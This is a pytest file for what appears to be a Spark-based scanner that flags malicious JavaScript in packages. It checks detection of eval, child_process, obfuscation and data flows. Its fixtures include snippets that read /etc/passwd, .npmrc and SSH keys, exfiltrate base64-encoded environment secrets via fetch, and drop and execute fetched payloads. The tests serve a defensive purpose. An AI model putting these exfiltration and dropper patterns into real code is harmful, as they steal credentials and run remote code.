"""Structural checks and data flow over calls, scopes and statements that span lines."""

import pytest

from siltstone.operators import flow, structure, tokens

SCHEMA = "package string, version string, path string, content string"

# path, content, what is found: title's first words, line, what is shown.
SYNTAX = {
    "eval.js": ("const x = eval(userInput);", [("Dynamic eval", 1, "eval(userInput)")]),
    "literal.js": ("eval(\"console.log('ok')\");", []),
    "lines.js": ("eval(\n  a +\n  b\n);", [("Dynamic eval", 1, "eval(\n  a +\n  b\n)")]),
    "arguments.js": ("foo(eval(\n`x`), eval('a' + b), eval())", [("Dynamic eval", 1, "eval(\n`x`)"), ("Dynamic eval", 2, "eval('a' + b)"), ("Dynamic eval", 2, "eval()")]),
    "member.js": ("a.eval(x); function eval(y) {} new eval(z)", []),
    "function.ts": ("const f = new Function(code);\nnew Function('a', 'return 1'); new Function()", [("new Function()", 1, "new Function(code)")]),
    "spawn.mjs": ("require('child_process')\n  .exec('ls', () => 1);\n(await import(\"node:child_process\")).spawnSync('x')", [("child_process.exec()", 1, "require('child_process')\n  .exec('ls', () => 1)"), ("child_process.spawnSync()", 3, "(await import(\"node:child_process\")).spawnSync('x')"), ("Dynamic import", 3, 'import("node:child_process")')]),
    "read.js": ("fs.readFileSync('/etc/passwd');\nfs.readFileSync(\n  '/home/u/.env',\n 'utf8');fs.readFile(p)", [("Read of sensitive", 1, "fs.readFileSync('/etc/passwd')"), ("Read of sensitive", 2, "fs.readFileSync(\n  '/home/u/.env',\n 'utf8')")]),
    "scopes.js": ("function a() {\n  const k = process.env.K;\n  return fetch(\n'u' + k);\n}\nfunction b() { return process.env.X }\nfetch(1)", [("process.env access", 2, "process.env")]),
    "arrow.js": ("const g = (x) => axios(process.env.T, x);\nconst h = { m(a) { request(process.env.A) } };\nconst i = () => process.env.B, j = () => fetch(u);", [("process.env access", 1, "process.env"), ("process.env access", 2, "process.env")]),
    "inner.js": ("function o() { fetch(u); return () => process.env.Q }", []),
    "encoded.js": ("const e = Buffer.from(d)\n  .toString('base64');\nfetch(u + e);", [("Base64 encode", 1, "Buffer.from(d)\n  .toString('base64')")]),
    "deep.js": ("f()()()()()()()()", [("Deeply nested function calls (6", 1, "f()()()()()()()"), ("Deeply nested function calls (7", 1, "f()()()()()()()()")]),
    "index.js": ("arr[0x1a](); a[i+1](x); a['b'](); a[i](); a[-1](2); new a[0](); a[x ? 1 : 2 + 3]()", [("Computed array", 1, "arr[0x1a]()"), ("Computed array", 1, "a[i+1](x)"), ("Computed array", 1, "a[-1](2)")]),
    "chars.js": ("const url = 'h'+'t'+'t'+'p';\nvar q = x + 'a'+'b'+'c'+'d'; var r = 'a'+'b'+'c'+'dd'; var s = 'a'+'b'+'c'+'d'.x", [("Single-char string concatenation (4", 1, "'h'+'t'+'t'+'p'")]),
    "longer.js": ("r = ('a' + 'b' + 'c' + 'd' + 'e');", [("Single-char string concatenation (4", 1, "'a' + 'b' + 'c' + 'd'"), ("Single-char string concatenation (5", 1, "'a' + 'b' + 'c' + 'd' + 'e'")]),
    "vm.js": ("process.binding('spawn_sync');vm.runInNewContext(c)", [("process.binding()", 1, "process.binding('spawn_sync')"), ("VM code", 1, "vm.runInNewContext(c)")]),
    "proxy.js": ("Reflect.get(require, 'x'); Reflect.apply(f); foo(Proxy.revocable, require)", [("Reflect used", 1, "Reflect.get(require, 'x')"), ("Proxy used", 1, "(Proxy.revocable, require)")]),
    "comments.js": ("// eval(x)\n/* eval(y)\n eval(z) */ eval(w)", [("Dynamic eval", 3, "eval(w)")]),
    "strings.js": ("var s = 'eval(x)'; var t = \"a\\\"eval(y)\"; var r = /eval(x)/; `eval(${q})`", []),
    "open.js": ("eval(x; { [ (", [("Dynamic eval", 1, "eval(x; { [ (")]),
    "crlf.js": ("a;\r\neval(x)\r\n", [("Dynamic eval", 2, "eval(x)")]),
    "bundle.min.js": ("eval(x);", []),
    "x.py": ("eval(x)", []),
    "dist/x.js": ("eval(x)", []),
    "long.js": ("'" + "\\x41" * 20_000 + "'; eval(x)", [("Dynamic eval", 1, "eval(x)")]),
    "big.js": ("eval(x);" + " " * tokens.MOST_BYTES, []),
    "null.js": (None, []),
    "empty.js": ("", []),
}

# path, content, what is found: rule, line, how often.
FLOWS = {
    "env.js": ("const data = process.env.SECRET;\nconst encoded = Buffer.from(data).toString('base64');\nfetch(url + encoded);", [("env", 3, 1)]),
    "drop.js": ("const res = fetch('http://x');\nfs.writeFileSync('/tmp/p', res);\nexecSync('/tmp/p' + res);", [("dropper", 2, 1), ("command", 3, 1)]),
    "secret.js": ("const t = fs.readFileSync(home +\n '/.npmrc');\nconst b = { t };\nfetch('http://e', {\n body: JSON.stringify(b) });", [("credentials", 4, 1)]),
    "exec.js": ("const payload = fetch('x');\nexec(payload);\nconst code = fetch('y'); eval(code)", [("command", 2, 1), ("eval", 3, 1)]),
    "none.js": ("const data = fs.readFileSync('README.md'); console.log(data);", []),
    "declared.js": ("function exfil() {\n  const s = process.env.A;\n  fetch(u + s);\n}", [("env", 3, 2)]),
    "callback.js": ("const s = process.env.A;\nrun(function () {\n  fetch(s);\n});", [("env", 3, 1)]),
    "fresh.js": ("const go = () => {\n  const s = process.env.A;\n  fetch(s);\n};", [("env", 3, 1)]),
    "assigned.js": ("let r;\nr = process.env.A;\nout = fetch(r);", [("env", 3, 2)]),
    "late.js": ("fetch(x);\nlet x = process.env.K", []),
    "lines.js": ("const a = process.env.K,\n b = a + 1,\n c = fetch(b);", [("env", 3, 1)]),
    "near.js": ("const k = fs.readFileSync('.ssh/id');\nwrap(() => {\n  request(k);\n});", [("credentials", 3, 1), ("near", 3, 1)]),
    "await.js": ("async function d() {\n const b = await fetch(u);\n fs.writeFile(p, b);\n}", [("dropper", 3, 2)]),
    "branches.js": ("const s = process.env.A; if (s) { fetch(s) } else fetch(s); return fetch(s)", [("env", 1, 2)]),
    "url.js": ("const host = process.env.H; axios[host]\n(1); axios.get(host)", [("url", 1, 1), ("env", 2, 1)]),
    "chain.js": ("const v0 = process.env.Q;\n" + "\n".join(f"const v{i} = v{i - 1};" for i in range(1, 9)) + "\nfetch(v8)", [("env", 10, 1)]),
    "changed.js": ("let a = process.env.Q; a = fetch(z); eval(a); b2 = a; spawn(b2)", [("eval", 1, 1), ("command", 1, 1)]),
    "unread.js": ("b = a;\na = process.env.A;\nfetch(b);", []),
    "x.ts": ("const s = process.env.A;\nfetch(s);", []),
    "dist/x.js": ("const s = process.env.A;\nfetch(s);", []),
    "null.js": (None, []),
}


def rows(spark, cases):
    data = [("p", "1", path, content) for path, (content, _) in cases.items()]
    return spark.createDataFrame(data + data[:1], SCHEMA).repartition(2)  # a repeated row counts once


def test_syntax(spark):
    got = sorted((r["file"], r["title"], r["line"], r["snippet"]) for r in structure.syntax(rows(spark, SYNTAX)).collect())
    want = sorted((path, title, line, shown) for path, (_, found) in SYNTAX.items() for title, line, shown in found)
    assert [(g[0], g[2], g[3]) for g in got] == [(w[0], w[2], w[3]) for w in want]
    assert all(g[1].startswith(w[1]) for g, w in zip(got, want, strict=True))


def test_dataflow(spark):
    got = sorted((r["file"], r["title"], r["severity"], r["line"]) for r in flow.dataflow(rows(spark, FLOWS)).collect())
    want = sorted((path, flow.FOUND[rule][1], flow.FOUND[rule][0], line) for path, (_, found) in FLOWS.items() for rule, line, times in found for _ in range(times))
    assert got == want


@pytest.mark.parametrize("run", [structure.syntax, flow.dataflow])
def test_no_files(spark, run):
    assert run(spark.createDataFrame([], SCHEMA)).count() == 0
